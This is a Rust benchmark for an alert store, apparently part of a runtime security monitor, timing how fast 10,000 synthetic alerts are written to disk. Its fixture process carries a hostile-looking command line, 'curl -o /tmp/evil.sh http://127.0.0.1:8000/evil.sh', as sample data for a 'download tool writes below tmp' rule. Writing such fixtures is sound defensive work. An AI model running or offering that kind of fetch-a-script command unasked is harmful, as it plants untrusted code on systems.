//! How many alerts a second the writer takes, from `alert` to the end of `flush_and_wait`, each with a process of its own and
//! two ancestors that are shared. `cargo bench -p eyas-store`.

#![expect(clippy::unwrap_used, reason = "bench")]

use std::sync::Arc;

use divan::Bencher;
use divan::counter::ItemsCount;
use eyas_event::{
    Alert, AlertId, BootTime, OutputValue, Priority, Process, ProcessKey, RulesetHash, WallTime,
};
use eyas_store::{Create, OpenOptions, RunKind, Store, WriterOptions};

fn main() {
    divan::main();
}

const ALERTS: u64 = 10_000;

fn process(pid: u32, parent: u32, start: u64) -> Arc<Process> {
    Arc::new(Process {
        key: ProcessKey { pid, start },
        parent: ProcessKey { pid: parent, start: 1 },
        comm: (*b"curl").into(),
        exe_path: (*b"/usr/bin/curl").into(),
        argv: (*b"curl\0-o\0/tmp/evil.sh\0http://127.0.0.1:8000/evil.sh\0").into(),
        cwd: (*b"/var/www").into(),
        container: "0123456789ab".into(),
        ..Process::default()
    })
}

fn alerts() -> Vec<Arc<Alert>> {
    let ancestors = vec![process(50, 1, 1), process(1, 0, 1)];
    let field = |n: u32| (format!("proc.aname[{n}]"), OutputValue::Text("bash".to_owned()));
    (0..ALERTS)
        .map(|n| {
            Arc::new(Alert {
                id: AlertId::new(WallTime(1_767_225_600_000_000_000 + n * 1_000_000), n),
                time: WallTime(1_767_225_600_000_000_000 + n * 1_000_000),
                boot_time: BootTime(n * 1_000_000),
                rule: "Download tool writes below tmp".into(),
                priority: Priority::Warning,
                tags: ["network".into()].into(),
                ruleset: RulesetHash([1; 32]),
                source: "syscall".into(),
                node: "bench".into(),
                message: "A download tool wrote below /tmp (file=/tmp/evil.sh user=www-data)".to_owned(),
                output_fields: (0..6).map(field).collect(),
                fields: (0..40).map(field).collect(),
                event_num: n,
                event_type: "openat",
                process: process(1000 + n as u32, 50, 1000 + n),
                ancestors: ancestors.clone(),
                user: "www-data".to_owned(),
                lost_before: 0,
            })
        })
        .collect()
}

#[divan::bench(sample_count = 5, sample_size = 1)]
fn alerts_on_disk(bencher: Bencher<'_, '_>) {
    let alerts = alerts();
    bencher
        .counter(ItemsCount::new(ALERTS))
        .with_inputs(|| {
            let dir = tempfile::tempdir().unwrap();
            let options = OpenOptions {
                node: "bench".to_owned(),
                wall_now: WallTime(1_767_225_600_000_000_000),
                wall_offset_ns: 0,
                boot_id: "bench".to_owned(),
                kind: RunKind::Live,
                create: Create::IfMissing,
            };
            let store = Store::open(dir.path().join("eyas.db"), &options).unwrap();
            let lane = WriterOptions { alert_lane: ALERTS as usize, ..WriterOptions::default() };
            let writer = store.writer(lane).unwrap();
            (dir, store, writer)
        })
        .bench_local_values(|(dir, store, writer)| {
            let handle = writer.handle();
            for alert in &alerts {
                handle.alert(Arc::clone(alert));
            }
            handle.flush_and_wait().unwrap();
            // Given back, so that closing and removing are not measured.
            (dir, store, writer)
        });
}
